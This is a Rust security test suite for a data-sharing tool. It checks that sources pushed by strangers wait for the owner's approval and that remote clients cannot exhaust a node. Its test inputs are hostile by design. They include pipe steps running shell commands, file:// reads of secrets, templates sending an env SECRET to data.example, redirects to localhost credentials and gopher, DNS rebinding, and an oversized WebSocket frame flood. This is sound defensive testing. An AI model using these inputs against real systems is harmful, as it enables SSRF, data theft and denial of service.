//! What strangers can make this machine do: nothing that its owner has not approved.
//!
//! An owner who runs a node, a guest who holds a token, and whoever reaches the port. The guest pushes, for every kind of
//! source and step, a dataset whose source would do harm where the owner pulls it.

use std::fs;
use std::io::{Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::Duration;

use interop_tests::http;
use interop_tests::process::{Finished, Running, resident, run};
use interop_tests::site::Site;
use interop_tests::workspace::LIMIT;
use interop_tests::workspace::dataset::table;
use interop_tests::{Node, Outcome, Workspace};

/// Exit codes, as `odfs --help` lists them.
const NOT_FOUND: i32 = 3;
const REFUSED: i32 = 7;
const PERMISSION: i32 = 16;
const NOT_APPROVED: i32 = 17;

/// When the pages of sites changed.
const MODIFIED: &str = "Sun, 04 Jan 2026 00:00:00 GMT";

/// A manifest whose source is `fetch` and `prepare`, in YAML on one line each.
fn manifest(name: &str, fetch: &str, prepare: &str) -> String {
    format!(
        "kind: DatasetSnapshot\nversion: 1\ncontent:\n  name: {name}\n  kind: Root\n  metadata:\n    - kind: SetPollingSource\n      \
         fetch: {fetch}\n      prepare: {prepare}\n      read: {{kind: Csv, header: true, schema: {{fields: [{{name: id, type: \
         Int64}}, {{name: city, type: String}}]}}}}\n      merge: {{kind: Append}}\n"
    )
}

/// Fails unless a command ended so, and spoke of all of `words`.
fn says(finished: &Finished, code: i32, words: &[&str]) -> Outcome {
    let missing: Vec<_> = words.iter().filter(|word| !finished.stderr.contains(**word)).collect();
    if finished.code() != Some(code) || !missing.is_empty() {
        return Err(finished.failure(&format!("should have ended with {code}, speaking of {missing:?}")));
    }
    Ok(())
}

/// An owner with a node, and a guest who knows its repository as `there`.
struct Stage {
    owner: Workspace,
    guest: Workspace,
    node: Node,
    /// Of the repository.
    url: String,
}

impl Stage {
    /// The guest's token has these verbs for all datasets.
    fn new(verbs: &str) -> Outcome<Self> {
        let (owner, guest) = (Workspace::new()?, Workspace::new()?);
        let token = owner.odfs(["repo", "token", "add", "guest", "--can", verbs])?.text();
        let node = owner.node()?;
        let url = format!("odf+{}/", node.gateway);
        guest.odfs(["repo", "add", "there", &url, "--token", &token])?;
        Ok(Self {
            owner,
            guest,
            node,
            url,
        })
    }

    /// Pushes a dataset of that id whose only blocks are a Seed and the source, over whatever is there.
    fn push_source(&self, id: &str, fetch: &str, prepare: &str) -> Outcome<Finished> {
        self.guest.write("evil.yaml", manifest("evil", fetch, prepare))?;
        self.guest
            .odfs(["--yes", "add", "--replace", "evil.yaml", "--dataset-id", id])?;
        self.guest
            .run(["push", "evil", "--to", "there/t", "--force", "--no-alias"])
    }
}

/// A dataset `t` that the owner published, and its id.
fn published(owner: &Workspace) -> Outcome<String> {
    owner.write("t.csv", table(10))?;
    owner.publish(&["t.csv", "--name", "t"])?;
    let listed = owner.odfs(["list", "--wide"])?.json()?;
    Ok(listed[0]["ID"].as_str().unwrap_or_default().to_owned())
}

#[test]
fn no_source_that_was_pushed_acts_before_its_owner_agrees() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let owner = &stage.owner;
    let id = published(owner)?;
    let (home, secret) = (owner.path(), owner.write("secret.csv", "id,city\n1,s3cret\n")?);
    let ran = home.join("ran");
    let catching = Site::at("127.0.0.1:0")?;
    catching.put("/x.csv", b"id,city\n1,Oslo\n".to_vec(), MODIFIED);
    let touch = format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display());
    let harmless = catching.url("/x.csv");
    let cases = [
        // Each fetch kind and step, with what is said of it.
        (
            format!("{{kind: Url, url: '{harmless}'}}"),
            touch.clone(),
            "runs the command `touch",
        ),
        (
            "{kind: Url, url: 'https://data.example/x.csv'}".to_owned(),
            touch.clone(),
            "runs the command `touch",
        ),
        (
            format!("{{kind: Url, url: 'file://{}'}}", secret.display()),
            "[]".to_owned(),
            "reads files of this machine",
        ),
        (
            format!("{{kind: FilesGlob, path: '{}/sec*.csv'}}", home.display()),
            "[]".to_owned(),
            "reads files of this machine",
        ),
        (
            format!("{{kind: Url, url: '{harmless}'}}"),
            "[]".to_owned(),
            "reaches 127.0.0.1",
        ),
        (
            format!("{{kind: Url, url: '{harmless}?key=${{{{ env.SECRET }}}}'}}"),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            "{kind: Url, url: 'https://data.example/?key=${{ env.SECRET }}'}".to_owned(),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            "{kind: Url, url: 'https://data.example/', headers: [{name: x-key, value: '${{ env.SECRET }}'}]}"
                .to_owned(),
            "[]".to_owned(),
            "uses the variables SECRET",
        ),
        (
            format!("{{kind: Url, url: \"${{{{ 'file://{}' }}}}\"}}", secret.display()),
            "[]".to_owned(),
            "has templates",
        ),
    ];
    for (fetch, prepare, words) in &cases {
        stage.push_source(&id, fetch, prepare)?.success()?;
        // Nobody is at the terminal, and yes to everything is no approval either.
        for args in [&["pull", "--all"][..], &["--yes", "pull", "--all"]] {
            let mut command = owner.command(args)?;
            command.env("SECRET", "s3cret");
            says(&run(command, LIMIT)?, 0, &["`odfs approve t`", words])?;
        }
        let mut command = owner.command(["--yes", "pull", "t"])?;
        command.env("SECRET", "s3cret");
        says(&run(command, LIMIT)?, NOT_APPROVED, &["odfs approve t", words])?;
        says(&owner.run(["approve", "t"])?, REFUSED, &[words, "not confirmed"])?;
        assert!(!ran.exists(), "{fetch} {prepare}");
        assert_eq!(catching.asked(), [] as [&str; 0], "{fetch} {prepare}");
        let log = owner.odfs(["log", "t"])?.json()?;
        assert_eq!(log.as_array().map(Vec::len), Some(2), "{fetch}: something was taken");
    }
    let written = owner.odfs(["repo", "log"])?.json()?;
    let rows = written.as_array().map(Vec::as_slice).unwrap_or_default();
    assert_eq!(rows.len(), cases.len());
    for row in rows {
        assert_eq!(
            (&row["Token"], &row["Verb"], &row["Dataset"]),
            (&"guest".into(), &"rewrite".into(), &"t".into())
        );
    }
    // What its owner approves runs, and the next change of the source waits again.
    let (fetch, prepare, _) = &cases[0];
    stage.push_source(&id, fetch, prepare)?.success()?;
    owner.odfs(["--yes", "approve", "t"])?;
    // `touch` gives no rows, which is an input like any other; what counts is that it ran.
    let _ = owner.run(["pull", "t"])?;
    assert!(ran.exists() && !catching.asked().is_empty());
    fs::remove_file(&ran)?;
    stage.push_source(&id, fetch, prepare)?.success()?;
    says(&owner.run(["pull", "t"])?, NOT_APPROVED, &["odfs approve t"])?;
    assert!(!ran.exists());
    stage.node.stop().map(drop)
}

#[test]
fn kinds_of_sources_that_are_not_supported_do_nothing() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let id = published(&stage.owner)?;
    for (fetch, words) in [
        (
            "{kind: Container, image: evil, command: [sh, -c, 'touch ran']}",
            "runs no containers",
        ),
        ("{kind: Mqtt, host: 127.0.0.1, port: 1, topics: [{path: x}]}", "MQTT"),
        (
            "{kind: EthereumLogs, chainId: 1, nodeUrl: 'http://127.0.0.1:1/', signature: 'X()'}",
            "Ethereum",
        ),
    ] {
        stage.push_source(&id, fetch, "[]")?.success()?;
        let finished = stage.owner.run(["--yes", "pull", "t"])?;
        assert!(
            !matches!(finished.code(), None | Some(0)),
            "{fetch}: {}",
            finished.stderr
        );
        assert!(finished.stderr.contains(words), "{fetch}: {}", finished.stderr);
        assert_eq!(
            stage.owner.odfs(["log", "t"])?.json()?.as_array().map(Vec::len),
            Some(2)
        );
    }
    stage.node.stop().map(drop)
}

#[test]
fn a_source_waits_by_whatever_way_it_came() -> Outcome {
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    let touch = format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display());
    other.write("m.yaml", manifest("t", "{kind: FilesGlob, path: '*.csv'}", &touch))?;
    other.odfs(["add", "m.yaml"])?;
    let node = other.node()?;
    let name = other.odfs(["list", "--wide"])?.json()?[0]["IPNS"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    other.odfs(["push", "t"])?;
    let there = other.path().join("there");
    other.odfs(["push", "t", "--to", &format!("file://{}", there.display())])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    let ways = [
        format!("ipns://{name}"),
        format!("odf+{}/t", node.gateway),
        format!("{}/t", node.gateway),
        format!("file://{}", there.display()),
    ];
    for way in &ways {
        owner.odfs(["pull", way, "--as", "t", "--no-alias", "--peer", &node.address])?;
        says(
            &owner.run(["--yes", "pull", "t"])?,
            NOT_APPROVED,
            &["touch", "odfs approve t"],
        )?;
        says(&owner.run(["pull", "--all"])?, 0, &["odfs approve t"])?;
        assert!(!ran.exists(), "{way}");
        owner.odfs(["--yes", "delete", "t"])?;
    }
    node.stop().map(drop)
}

#[test]
fn a_transform_that_was_pushed_reads_nothing_hidden_unasked() -> Outcome {
    let stage = Stage::new("pull,push,create,rewrite")?;
    let owner = &stage.owner;
    owner.write("diary.csv", "id,city\n1,s3cret\n")?;
    let add = |workspace: &Workspace, name: &str, content: String, more: &[&str]| {
        workspace.write(name, content)?;
        workspace.odfs([&["add", name][..], more].concat()).map(drop)
    };
    let manifest = |name: &str, event: &str| {
        format!("kind: DatasetSnapshot\nversion: 1\ncontent:\n  name: {name}\n  kind: {event}\n")
    };
    let push = "Root\n  metadata:\n    - kind: AddPushSource\n      sourceName: default\n      read: {kind: Csv, header: true, schema: \
                {fields: [{name: id, type: Int64}, {name: city, type: String}]}}\n      merge: {kind: Append}";
    add(owner, "diary.yaml", manifest("diary", push), &[])?;
    owner.odfs(["ingest", "diary", "diary.csv"])?;
    let diary = owner.odfs(["list", "--wide"])?.json()?[0]["ID"]
        .as_str()
        .unwrap_or_default()
        .to_owned();
    // The guest has a dataset of that id too, so that a transform can name it.
    add(
        &stage.guest,
        "diary.yaml",
        manifest("diary", push),
        &["--dataset-id", &diary],
    )?;
    let transform = "Derivative\n  metadata:\n    - kind: SetTransform\n      inputs: [{datasetRef: diary, alias: diary}]\n      \
                     transform: {kind: Sql, engine: datafusion, query: 'select event_time, id, city from diary'}";
    add(&stage.guest, "spy.yaml", manifest("spy", transform), &[])?;
    stage.guest.odfs(["push", "spy", "--to", "there/spy"])?;
    for args in [&["pull", "--all"][..], &["--yes", "pull", "--all"]] {
        says(
            &owner.run(args)?,
            0,
            &["`odfs approve spy`", "reads diary, which is not shared"],
        )?;
    }
    says(
        &owner.run(["--yes", "pull", "spy"])?,
        NOT_APPROVED,
        &["odfs approve spy"],
    )?;
    assert_eq!(owner.dataset("spy")?.records, 0);
    // What is shared may be computed with, and so may what its owner agrees to.
    owner.odfs(["share", "diary"])?;
    owner.odfs(["pull", "spy"])?;
    assert_eq!(owner.dataset("spy")?.records, 1);
    owner.odfs(["share", "--stop", "diary"])?;
    owner.write("more.csv", "id,city\n2,more\n")?;
    owner.odfs(["ingest", "diary", "more.csv"])?;
    says(&owner.run(["pull", "spy"])?, NOT_APPROVED, &["reads diary"])?;
    owner.odfs(["--yes", "approve", "spy"])?;
    owner.odfs(["pull", "spy"])?;
    assert_eq!(owner.dataset("spy")?.records, 2);
    // The owner's own needs no more than to be added.
    add(owner, "own.yaml", manifest("own", transform), &[])?;
    owner.odfs(["pull", "own"])?;
    assert_eq!(owner.dataset("own")?.records, 2);
    stage.node.stop().map(drop)
}

#[test]
fn what_was_pulled_waits_also_where_the_key_is_here() -> Outcome {
    // The same key in two places, as a laptop and a server of one person have it; one of them was broken into.
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    other.write(
        "evil.yaml",
        manifest(
            "t",
            "{kind: FilesGlob, path: '*.csv'}",
            &format!("[{{kind: Pipe, command: [touch, '{}']}}]", ran.display()),
        ),
    )?;
    other.odfs(["add", "evil.yaml"])?;
    other.odfs(["key", "export", "t", "-o", "t.key"])?;
    let there = owner.path().join("there");
    let url = format!("file://{}", there.display());
    other.odfs(["push", "t", "--to", &url])?;
    let key = other.path().join("t.key").display().to_string();
    owner.odfs(["key", "import", "t", &key])?;
    owner.odfs(["pull", &url, "--as", "t", "--no-alias"])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    says(&owner.run(["pull", "t"])?, NOT_APPROVED, &["touch", "odfs approve t"])?;
    says(&owner.run(["--yes", "pull", "--all"])?, 0, &["odfs approve t"])?;
    assert!(!ran.exists());
    // Approvals outlive the index, and belong to this machine alone.
    owner.odfs(["--yes", "approve", "t"])?;
    fs::remove_dir_all(owner.store().join("store"))?;
    let listed = owner.odfs(["approve", "--list"])?.json()?;
    assert_eq!(
        (&listed[0]["Name"], &listed[0]["State"]),
        (&"t".into(), &"approved".into())
    );
    let out = owner.path().join("out");
    owner.odfs(["push", "t", "--to", &format!("file://{}", out.display())])?;
    assert!(!holds(&out, "approved")?);
    Ok(())
}

/// Whether a directory holds a file whose name begins so.
fn holds(dir: &Path, name: &str) -> Outcome<bool> {
    for entry in fs::read_dir(dir)? {
        let entry = entry?;
        if entry.file_name().to_string_lossy().starts_with(name)
            || (entry.path().is_dir() && holds(&entry.path(), name)?)
        {
            return Ok(true);
        }
    }
    Ok(false)
}

#[test]
fn a_token_does_what_it_says_and_no_more() -> Outcome {
    let stage = Stage::new("push,create")?;
    let (owner, guest) = (&stage.owner, &stage.guest);
    let id = published(owner)?;
    let before = owner.dataset("t")?;
    let finished = stage.push_source(&id, "{kind: FilesGlob, path: '*.csv'}", "[]")?;
    says(&finished, REFUSED, &["rewrite t", "\"guest\""])?;
    assert_eq!(owner.dataset("t")?.head, before.head);
    // To bring something new is among its verbs; to read what others brought is not.
    guest.write("g.csv", table(5))?;
    guest.publish(&["g.csv", "--name", "g"])?;
    guest.odfs(["push", "g", "--to", "there"])?;
    let token = |args: &[&str]| {
        owner
            .odfs([&["repo", "token", "add"][..], args].concat())
            .map(|made| made.text())
    };
    let narrow = token(&[
        "narrow",
        "--dataset",
        "other.%",
        "--can",
        "pull,push",
        "--expires",
        "30d",
    ])?;
    let reader = Workspace::new()?;
    reader.odfs(["repo", "add", "there", &stage.url, "--token", &narrow])?;
    says(&reader.run(["pull", "there/g"])?, NOT_FOUND, &[])?;
    let allowed = token(&["reader", "--dataset", "g", "--can", "pull"])?;
    let reader = Workspace::new()?;
    reader.odfs(["repo", "add", "there", &stage.url, "--token", &allowed])?;
    reader.odfs(["pull", "there/g"])?;
    assert_eq!(reader.dataset("g")?.records, 5);
    reader.write("n.csv", table(3))?;
    reader.publish(&["n.csv", "--name", "n"])?;
    says(
        &reader.run(["push", "n", "--to", "there"])?,
        PERMISSION,
        &["create n", "\"reader\""],
    )?;
    let listed = owner.odfs(["repo", "token", "list"])?.json()?;
    assert_eq!(listed[1]["Datasets"], serde_json::json!(["other.%"]));
    assert_eq!(listed[1]["Can"], serde_json::json!(["pull", "push"]));
    assert!(listed[1]["Expires"].is_string() && listed[0]["Expires"].is_string());
    let forever = owner.odfs(["repo", "token", "add", "forever", "--expires", "never"])?;
    assert!(
        forever.stderr.contains("pull, push, create every dataset"),
        "{}",
        forever.stderr
    );
    assert!(owner.odfs(["repo", "token", "list"])?.json()?[3]["Expires"].is_null());
    stage.node.stop().map(drop)
}

#[test]
fn only_what_is_shared_is_read_without_a_token() -> Outcome {
    let owner = Workspace::new()?;
    let manifest = "kind: DatasetSnapshot\nversion: 1\ncontent:\n  name: diary\n  kind: Root\n  metadata:\n    - kind: AddPushSource\n      \
                    sourceName: default\n      read: {kind: Csv, header: true, schema: {fields: [{name: id, type: Int64}]}}\n      \
                    merge: {kind: Append}\n";
    owner.write("diary.yaml", manifest)?;
    owner.odfs(["add", "diary.yaml"])?;
    owner.write("rows.csv", "id\n1\n")?;
    owner.odfs(["ingest", "diary", "rows.csv"])?;
    let node = owner.node()?;
    let listed = owner.odfs(["list", "--wide"])?.json()?;
    let name = listed[0]["IPNS"].as_str().unwrap_or_default().to_owned();
    let id = listed[0]["ID"].as_str().unwrap_or_default().to_owned();
    let head = format!("{}/diary/refs/head", node.gateway);
    let other = Workspace::new()?;
    let address = format!("odf+{}/diary", node.gateway);
    for hidden in [&head, &format!("{}/datasets/{id}", node.gateway)] {
        assert_eq!(http::get(hidden, &[])?.status, 404, "{hidden}");
    }
    says(&other.run(["pull", &address])?, NOT_FOUND, &["--token"])?;
    owner.odfs(["share", "diary"])?;
    assert_eq!(http::get(&head, &[])?.status, 200);
    other.odfs(["pull", &address])?;
    owner.odfs(["share", "--stop", "diary"])?;
    assert_eq!(http::get(&head, &[])?.status, 404);
    // Publishing shares; the gateway then shows the root, and no longer when that is stopped.
    owner.odfs(["push", "diary"])?;
    let page = format!("{}/ipns/{name}/refs/head", node.gateway);
    assert_eq!(
        (http::get(&head, &[])?.status, http::get(&page, &[])?.status),
        (200, 200)
    );
    owner.odfs(["share", "--stop", "diary"])?;
    assert_eq!(
        (http::get(&head, &[])?.status, http::get(&page, &[])?.status),
        (404, 404)
    );
    let shared = owner.odfs(["share", "--list"])?.json()?;
    assert_eq!(
        (&shared[0]["Open"], &shared[0]["Why"]),
        (&false.into(), &"stopped".into())
    );
    node.stop().map(drop)
}

/// A WebSocket at a node that has been accepted, raw.
fn web_socket(gateway: &str, path: &str) -> Outcome<TcpStream> {
    let host = gateway.trim_start_matches("http://").trim_end_matches('/');
    let mut stream = TcpStream::connect(host)?;
    stream.set_read_timeout(Some(Duration::from_secs(10)))?;
    stream.set_write_timeout(Some(Duration::from_secs(10)))?;
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nx-odf-smtp-version: 1\r\n\r\n"
    );
    stream.write_all(head.as_bytes())?;
    let mut answer = [0; 12];
    stream.read_exact(&mut answer)?;
    match &answer {
        b"HTTP/1.1 101" => Ok(stream),
        other => Err(String::from_utf8_lossy(other).into_owned().into()),
    }
}

#[test]
fn strangers_at_the_port_take_neither_memory_nor_everybodys_turns() -> Outcome {
    const SOCKETS: usize = 33;
    const MESSAGE: usize = 60 << 20;
    let owner = Workspace::new()?;
    published(&owner)?;
    let node = owner.node()?;
    let token = owner.odfs(["repo", "token", "add", "friend"])?.text();
    let before = resident(node.process.id(), "VmRSS").ok_or("the node has ended")?;
    let mut accepted = 0;
    let mut open = Vec::new();
    for _ in 0..SOCKETS {
        let Ok(mut socket) = web_socket(&node.gateway, "/t/pull") else {
            continue;
        };
        accepted += 1;
        // Text without its end, masked with zeros, of a length that the frame announces.
        let mut frame = vec![0x01, 0xff];
        frame.extend_from_slice(&(MESSAGE as u64).to_be_bytes());
        frame.extend_from_slice(&[0; 4]);
        let _ = socket.write_all(&frame);
        let part = vec![b' '; 1 << 20];
        // The node hangs up long before all of it is sent.
        let sent = (0..MESSAGE >> 20)
            .take_while(|_| socket.write_all(&part).is_ok())
            .count();
        assert!(sent < MESSAGE >> 20, "all of a message of {MESSAGE} bytes was taken");
        open.push(socket);
    }
    assert!(accepted > 0);
    let after = resident(node.process.id(), "VmHWM").ok_or("the node has ended")?;
    assert!(after < before + (32 << 20), "{before} bytes before, {after} at most");
    // And those that say nothing at all: the others go on.
    open.clear();
    let idle: Vec<_> = (0..SOCKETS)
        .filter_map(|_| web_socket(&node.gateway, "/t/pull").ok())
        .collect();
    assert!(
        !idle.is_empty() && idle.len() < SOCKETS / 2,
        "{} of {SOCKETS} have a turn",
        idle.len()
    );
    let friend = Workspace::new()?;
    friend.odfs([
        "repo",
        "add",
        "there",
        &format!("odf+{}/", node.gateway),
        "--token",
        &token,
    ])?;
    friend.odfs(["pull", "there/t"])?;
    drop(idle);
    node.stop().map(drop)
}

#[test]
fn a_person_at_a_terminal_is_asked() -> Outcome {
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let ran = owner.path().join("ran");
    let touch = format!("[{{kind: Pipe, command: [sh, -c, 'cat; touch {}']}}]", ran.display());
    other.write("m.yaml", manifest("t", "{kind: FilesGlob, path: '*.csv'}", &touch))?;
    other.odfs(["add", "m.yaml"])?;
    let there = format!("file://{}", owner.path().join("there").display());
    other.odfs(["push", "t", "--to", &there])?;
    owner.odfs(["pull", &there, "--as", "t", "--no-alias"])?;
    owner.write("x.csv", "id,city\n1,Oslo\n")?;
    let Some(no) = on_terminal(&owner, "pull t", "n\n")? else {
        return Ok(());
    };
    assert!(
        no.code() == Some(NOT_APPROVED) && no.text().contains("runs the command"),
        "{}",
        no.text()
    );
    let no = on_terminal(&owner, "approve t", "n\n")?;
    assert!(no.is_some_and(|no| no.code() == Some(REFUSED) && no.text().contains("Approve it?")));
    assert!(!ran.exists());
    let yes = on_terminal(&owner, "pull t", "y\n")?;
    assert!(yes.is_some_and(|yes| yes.code() == Some(0)));
    assert!(ran.exists() && owner.dataset("t")?.records == 1);
    // Once is enough.
    owner.write("y.csv", "id,city\n2,Rome\n")?;
    owner.odfs(["pull", "t"])?;
    assert_eq!(owner.dataset("t")?.records, 2);
    Ok(())
}

/// Runs odfs with a terminal of its own, and an answer typed there; nothing where no program gives it one.
fn on_terminal(workspace: &Workspace, args: &str, typed: &str) -> Outcome<Option<Finished>> {
    if Command::new("script").arg("--version").output().is_err() {
        interop_tests::peers::skip("there is no `script` (util-linux) to make a terminal with");
        return Ok(None);
    }
    let odfs = workspace.command([] as [&str; 0])?;
    let mut command = Command::new("script");
    command
        .args([
            "-qec",
            &format!("'{}' {args}", odfs.get_program().to_string_lossy()),
            "/dev/null",
        ])
        .current_dir(workspace.path())
        .env_clear()
        .envs(odfs.get_envs().filter_map(|(name, value)| Some((name, value?))));
    let (running, input) = Running::start_fed(command, Stdio::piped())?;
    let mut input = input.ok_or("no standard input")?;
    input.write_all(typed.as_bytes())?;
    let finished = running.finish(Duration::from_secs(60))?;
    drop(input);
    Ok(Some(finished))
}

/// Set in the process that runs in a network of its own.
const INSIDE: &str = "ODFS_TEST_INSIDE";
/// A public address, which that network has.
const PUBLIC: &str = "11.22.33.44";

#[test]
fn a_public_address_does_not_lead_to_a_private_one() -> Outcome {
    if std::env::var_os(INSIDE).is_some() {
        return redirected();
    }
    let mut command = Command::new("unshare");
    command
        .args(["--net", "--mount", "--"])
        .arg(std::env::current_exe()?)
        .args([
            "--exact",
            "strangers::a_public_address_does_not_lead_to_a_private_one",
            "--nocapture",
        ])
        .env(INSIDE, "1");
    let able = Command::new("unshare").args(["--net", "--mount", "true"]).output();
    if !able.is_ok_and(|output| output.status.success()) {
        if interop_tests::peers::required() {
            return Err("a network namespace is needed (run as root)".into());
        }
        interop_tests::peers::skip("no network namespace can be made here");
        return Ok(());
    }
    run(command, Duration::from_secs(180))?.success().map(drop)
}

fn redirected() -> Outcome {
    for args in [
        &["link", "set", "lo", "up"][..],
        &["addr", "add", "11.22.33.44/32", "dev", "lo"],
    ] {
        let mut ip = Command::new("ip");
        ip.args(args);
        run(ip, LIMIT)?.success()?;
    }
    let (public, hidden) = (Site::at(&format!("{PUBLIC}:80"))?, Site::at("127.0.0.1:0")?);
    let rows = || b"id,city\n1,Oslo\n".to_vec();
    public.put("/rows.csv", rows(), MODIFIED);
    hidden.put("/credentials", rows(), MODIFIED);
    public.redirect("/moved.csv", &format!("http://{PUBLIC}/rows.csv"));
    public.redirect("/evil.csv", &hidden.url("/credentials"));
    let (owner, other) = (Workspace::new()?, Workspace::new()?);
    let fetch = |page: &str| format!("{{kind: Url, url: 'http://{PUBLIC}{page}'}}");
    for (name, page) in [("plain", "/rows.csv"), ("moved", "/moved.csv"), ("evil", "/evil.csv")] {
        other.write("m.yaml", manifest(name, &fetch(page), "[]"))?;
        other.odfs(["add", "m.yaml"])?;
        let there = format!("file://{}", owner.path().join(name).display());
        other.odfs(["push", name, "--to", &there])?;
        owner.odfs(["pull", &there, "--as", name, "--no-alias"])?;
    }
    // What is public and written out needs nobody's approval.
    owner.odfs(["pull", "plain"])?;
    owner.odfs(["pull", "moved"])?;
    assert_eq!(
        (owner.dataset("plain")?.records, owner.dataset("moved")?.records),
        (1, 1)
    );
    for _ in 0..2 {
        says(&owner.run(["pull", "evil"])?, REFUSED, &["127.0.0.1", "does not name"])?;
        assert_eq!(hidden.asked(), [] as [&str; 0]);
        // Approved or not: what was shown is the public address.
        owner.odfs(["--yes", "approve", "evil"])?;
    }
    for (page, to) in [
        ("/file.csv", "file:///etc/hostname"),
        ("/gopher.csv", "gopher://127.0.0.1/"),
    ] {
        public.redirect(page, to);
        other.write("m.yaml", manifest("scheme", &fetch(page), "[]"))?;
        other.odfs(["--yes", "add", "--replace", "m.yaml"])?;
        let finished = other.run(["pull", "scheme"])?;
        assert!(!matches!(finished.code(), None | Some(0)), "{to}: {}", finished.stderr);
    }
    rebound(&public, &owner, &other)
}

/// A name that stood for a public address when its source was pulled, and stands for a private one later.
fn rebound(public: &Site, owner: &Workspace, other: &Workspace) -> Outcome {
    let hosts = owner.write("hosts", format!("{PUBLIC} data.example\n"))?;
    let mut mount = Command::new("mount");
    mount.arg("--bind").arg(&hosts).arg("/etc/hosts");
    run(mount, LIMIT)?.success()?;
    let inside = Site::at("127.0.0.1:80")?;
    inside.put("/data.csv", b"id,city\n3,s3cret\n".to_vec(), MODIFIED);
    public.put(
        "/data.csv",
        b"id,city\n1,Oslo\n".to_vec(),
        "Sun, 04 Jan 2026 00:00:01 GMT",
    );
    other.write(
        "m.yaml",
        manifest("moving", "{kind: Url, url: 'http://data.example/data.csv'}", "[]"),
    )?;
    other.odfs(["add", "m.yaml"])?;
    let there = format!("file://{}", owner.path().join("moving").display());
    other.odfs(["push", "moving", "--to", &there])?;
    owner.odfs(["pull", &there, "--as", "moving", "--no-alias"])?;
    owner.odfs(["pull", "moving"])?;
    assert_eq!(owner.dataset("moving")?.records, 1);
    // Agreed to or not, while it was public.
    owner.odfs(["--yes", "approve", "moving"])?;
    fs::write(&hosts, "127.0.0.1 data.example\n")?;
    says(
        &owner.run(["pull", "moving"])?,
        NOT_APPROVED,
        &["data.example", "127.0.0.1", "odfs approve moving"],
    )?;
    says(&other.run(["pull", "moving"])?, NOT_APPROVED, &["127.0.0.1"])?;
    assert_eq!(inside.asked(), [] as [&str; 0]);
    // Now that it is shown where it leads, its owner may agree.
    says(
        &owner.run(["approve", "moving"])?,
        REFUSED,
        &["data.example, now at 127.0.0.1"],
    )?;
    owner.odfs(["--yes", "approve", "moving"])?;
    owner.odfs(["pull", "moving"])?;
    assert_eq!((owner.dataset("moving")?.records, inside.asked().len()), (2, 1));
    Ok(())
}
